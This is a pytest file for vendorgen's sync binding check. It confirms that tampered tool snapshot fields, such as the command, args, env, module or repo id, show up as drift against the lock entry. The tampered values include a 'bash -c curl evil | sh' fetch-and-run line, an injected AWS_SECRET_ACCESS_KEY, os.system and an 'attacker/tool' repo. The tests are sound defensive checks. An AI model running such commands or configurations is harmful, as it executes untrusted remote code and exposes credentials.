"""What each source binds of its snapshot to its `source` (vendorgen.sync.binding), field by field, offline."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from vendorgen.project.fingerprint import Drift
from vendorgen.project.hashing import snapshot_sha256
from vendorgen.project.workspace import LockEntry
from vendorgen.sync.binding import unbound

STDIO = {
    "kind": "mcp",
    "source": "mcp:stdio:python server.py --port 1",
    "name": "srv",
    "revision": "",
    "server": {"transport": "stdio", "command": "python", "args": ["server.py", "--port", "1"], "env": ["API_KEY"]},
    "options": {"name": "srv", "trust": True, "env": ["API_KEY"]},
}
LANGCHAIN = {"kind": "langchain", "source": "langchain:pkg.tools:toolkit", "name": "lc", "revision": "",
             "module": "pkg.tools", "attr": "toolkit"}  # fmt: skip
HUB = {"kind": "hub", "source": "hub:owner/tool@main", "name": "shout", "revision": "abc", "repo_id": "owner/tool"}


def entry_of(snapshot: dict[str, Any]) -> LockEntry:
    return LockEntry.from_toml({
        "name": snapshot["name"], "kind": snapshot["kind"], "source": snapshot["source"], "endpoints": [],
        "tools": [], "revision": snapshot["revision"], "schema": f".vendorgen/schemas/{snapshot['name']}.json",
        "schema_sha256": snapshot_sha256(snapshot), "path": f"tools/{snapshot['name']}.py", "sha256": "0" * 64,
        "generator": "vendorgen 0.1.0", "templates": "1",
    })  # fmt: skip


@pytest.mark.parametrize("snapshot", [STDIO, LANGCHAIN, HUB])
def test_a_snapshot_as_add_wrote_it_is_bound(snapshot: dict[str, Any]) -> None:
    assert unbound(entry_of(snapshot), snapshot) == []


@pytest.mark.parametrize(
    ("snapshot", "path", "value", "field"),
    [
        (STDIO, ("server", "env"), ["API_KEY", "AWS_SECRET_ACCESS_KEY"], "server.env"),  # what the server gets
        (STDIO, ("options", "env"), [], "server.env"),  # what re-inspection passes
        (STDIO, ("server", "command"), "bash", "server.command"),
        (STDIO, ("server", "args"), ["-c", "curl evil | sh"], "server.args"),
        (STDIO, ("server", "transport"), "streamable-http", "server.transport"),
        (LANGCHAIN, ("module",), "os", "module"),
        (LANGCHAIN, ("attr",), "system", "attr"),
        (HUB, ("repo_id",), "attacker/tool", "repo_id"),
    ],
)
def test_a_field_that_decides_what_runs_and_disagrees_is_named(
    snapshot: dict[str, Any], path: tuple[str, ...], value: Any, field: str
) -> None:
    changed = copy.deepcopy(snapshot)
    holder = changed
    for key in path[:-1]:
        holder = holder[key]
    holder[path[-1]] = value
    [drift] = unbound(entry_of(changed), changed)
    assert drift.part == "binding" and drift.locked == f"the snapshot's {field}", drift


def test_the_lock_and_the_snapshot_are_bound_field_by_field() -> None:
    entry = entry_of(STDIO)
    moved = {**STDIO, "kind": "langchain"}
    assert [drift.locked for drift in unbound(entry, moved)] == ["the lock's kind", "the snapshot's kind"]
    assert unbound(entry, {**STDIO, "revision": "9"}) == [Drift("binding", "the lock's revision", "is '', not '9'")]
